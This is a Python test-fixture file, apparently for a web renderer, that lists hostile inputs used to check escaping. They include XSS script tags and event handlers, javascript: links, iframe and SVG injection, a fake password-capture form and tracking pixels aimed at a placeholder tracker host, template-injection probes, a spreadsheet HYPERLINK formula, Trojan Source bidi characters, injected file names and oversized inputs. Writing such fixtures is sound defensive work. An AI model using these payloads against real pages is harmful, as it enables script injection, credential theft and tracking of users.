"""A zoo of what a hostile agent may write. Every text carries a word of its own that people must
be able to read, and does harm where it is obeyed:

runs script (sets `window.ranHostileScript`, opens a dialog), loads a picture from another host,
moves the reader elsewhere, or breaks the page.
"""

from __future__ import annotations

from browser import CANARY

TRACKER = "http://tracker.invalid"  # resolves nowhere; asking for it is already the harm
RUN = f"window.{CANARY}=1;alert(1)"
RTL, ZERO_WIDTH, ZALGO = "\u202e", "\u200b\u2060\ufeff", "\u0301\u0338\u0489" * 60

SCRIPT = f"<script>{RUN}</script>"
HANDLER = f'<img src=x onerror="{RUN}">'
PICTURE = f'<img src="{TRACKER}/p.png">'
BREAKOUT = f"""'"></title></textarea></style></script>{SCRIPT}{HANDLER}"""

POSTS = {
    "script": f"{SCRIPT}<SCRIPT SRC={TRACKER}/x.js></SCRIPT><scr<script>ipt>{RUN}</script>",
    "handlers": f"{HANDLER}<b onmouseover={RUN}>b</b><details open ontoggle={RUN}>"
    f"<input autofocus onfocus={RUN}>",
    "links": "\n".join(
        f"[click {n}]({url})"
        for n, url in enumerate(
            [
                f"javascript:{RUN}",
                f"JaVaScRiPt:{RUN}",
                f"java\tscript:{RUN}",
                f"&#106;avascript:{RUN}",
                "vbscript:x",
                f"data:text/html,{SCRIPT}",
                f"  javascript:{RUN}",
                f"//{TRACKER[7:]}/x",
                "file:///etc/passwd",
            ]
        )
    )
    + f"\n<javascript:{RUN}> [ref][1]\n\n[1]: javascript:{RUN} 'title\" onmouseover=\"{RUN}'",
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}">'
    "<text y=20>svg</text></a></svg><math><mtext></math>",
    "frames": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="{SCRIPT}"></iframe>'
    f'<object data="{TRACKER}"></object><embed src="{TRACKER}">',
    "tracking pixel": f"![pixel]({TRACKER}/p.png) ![ref][p] {PICTURE} "
    f"<video poster={TRACKER}/v.png>\n\n[p]: {TRACKER}/q.png",
    "refresh": f'<meta http-equiv="refresh" content="0;url={TRACKER}"><base href="{TRACKER}">'
    f'<link rel=stylesheet href="{TRACKER}/x.css">',
    "form": f'<form action="{TRACKER}"><input type=password name=key>'
    "<button>Enter your key</button></form></div></article></main><h1>owned</h1>",
    "style": f"<style>*{{display:none}}body{{background:url({TRACKER})}}</style>"
    f"<div style='position:fixed;inset:0;background:url({TRACKER})'>over all</div>",
    "template": "{{7+7}} {% include '/etc/passwd' %} ${7*7} #{7*7} {{ ''.__class__ }} {{config}}",
    "direction": f"{RTL}txt.exe{RTL} {ZERO_WIDTH}nothing here{ZERO_WIDTH} \u2066isolated never closed",
    "zalgo": f"Z{ZALGO}a{ZALGO}lgo",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07 \x08\x08 bell",
    "one long line": "A" * 31_000,
    "long line of code": f"```python\n{'x' * 15_000}\n```\n\n`{'y' * 15_000}`",
    "huge table": "|" + "h|" * 300 + "\n|" + "-|" * 300 + ("\n|" + "cell|" * 300) * 12,
    "many items": "\n".join("- i" for _ in range(7_000)),
    "many lines": "\n\n".join("l" for _ in range(10_000)),
    "deep quotes": ">" * 5_000 + " deep",
    "deep lists": "\n".join("  " * n + "- deep" for n in range(120)),
    "deep brackets": "[" * 8_000 + "]" * 8_000 + "*_" * 5_000,
    "entities": "&lt;script&gt; &#60;script&#62; &amp;lt; &NotAnEntity; &#0; &#x202e;",
    "fences": f'```html\n{SCRIPT}\n```\n~~~"onclick={RUN}\n{HANDLER}\n~~~',
    "autolinks": f'<http://x.invalid/"onmouseover="{RUN}> http://x.invalid/\'><script>{RUN}</script>',
    "heading ids": '# <a name="main"> {#main onclick=x}\n\n'
    '<div id="live" data-live-part="//tracker.invalid/">',
}

_COMMIT = "commit:abcdef1"
RESULTS = {
    "fake markup": f"{_COMMIT} platform:<b>GPU</b>{HANDLER[:40]} val_bpb:0.9 vram_gb:1 | {BREAKOUT}",
    "not finite": f"{_COMMIT} platform:gpu val_bpb:NaN vram_gb:inf | not finite {SCRIPT}",
    "huge": f"{_COMMIT} platform:gpu val_bpb:999999.9 vram_gb:1e300 | huge",
    "negative": f"{_COMMIT} platform:gpu val_bpb:-5 vram_gb:-1 | negative",
    "nearly nothing": f"{_COMMIT} platform:gpu val_bpb:0.0000001 vram_gb:1 | too good",
    "track": f"{_COMMIT} platform:gpu val_bpb:1.1 vram_gb:1 track:{SCRIPT} | a track of script",
    "crash": f"{_COMMIT} platform:gpu val_bpb:--- vram_gb:--- | crashed (CRASH: {BREAKOUT})",
    "formula": f'{_COMMIT} platform:=1+1 val_bpb:1.0 vram_gb:1 | =HYPERLINK("{TRACKER}","x")',
    "direction": f"{_COMMIT} platform:gpu{RTL}x val_bpb:1.05 vram_gb:1 | {RTL}desrever {ZERO_WIDTH}",
    "wide platform": f"{_COMMIT} platform:{'W' * 64} val_bpb:1.2 vram_gb:1 | {'W' * 480}",
    "template": f"{_COMMIT} platform:{{{{7*7}}}} val_bpb:1.3 vram_gb:1 | {{{{7*7}}}} {{% raw %}}",
    "line ends": "commit:abcdef2 platform:gpu val_bpb:1.0 vram_gb:1 | a\u2028b\u2029c\u0085d",
    "many of one post": "\n".join(
        f"commit:{n:07x} platform:board-{n} val_bpb:1.{n} vram_gb:1 | board {n}" for n in range(50)
    ),
    "verification": f"verify {_COMMIT} platform:gpu val_bpb:1.0 n:3 | not reproduced ({BREAKOUT})",
}

MESSAGES = {
    "markup": f"{BREAKOUT}\n\n{SCRIPT}{HANDLER}{PICTURE}",
    "direction": f"{RTL}egassem {ZERO_WIDTH}\u2066",
    "one long line": "M" * 40_000,
    "many lines": "line\n" * 8_000,
    "template": "{{7*7}} {% for x in y %}",
    "ansi": "\x1b[31mred\x1b[0m",
}

FILES: dict[
    str, bytes
] = {  # names may hold all but control characters, slashes, backslashes and colons
    "<img src=x onerror=alert(1)>.py": b"name = 1\n",
    '" onmouseover="alert(1)" x=".js': f"// {SCRIPT}\n".encode(),
    # Trojan Source, CVE-2021-42574
    f"{RTL}yp.txt": "access = 'user\u202e \u2066// admin\u2069 \u2066'\n".encode(),
    "{{7*7}}.html": f"<html>{SCRIPT}{HANDLER}{PICTURE}</html>\n".encode(),
    "evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">{SCRIPT}</svg>\n'.encode(),
    "evil.md": f"[x](javascript:{RUN}) {SCRIPT}\n".encode(),
    "long.txt": b"L" * 300_000 + b"\n",
    "lines.txt": b"l\n" * 60_000,
    "binary.bin": bytes(range(256)) * 40,
    "not utf8.py": b"# \xff\xfe\xe9 caf\xe9\nx = 1\n",
    "ansi.sh": b"echo '\x1b[31mred\x1b[0m' \x07\x08\n",
    "diff in diff.txt": b"diff --git a/x b/y\n--- a/x\n+++ b/<script>\n@@ -1 +1 @@\n-no\n+yes\n",
    "W" * 240 + ".txt": b"w\n",
    "nested.json": b"[" * 20_000 + b"]" * 20_000,
    "quotes.rb": b"<<A + <<B + '" + b"\"'`%q{#{" * 3_000 + b"\n",
}
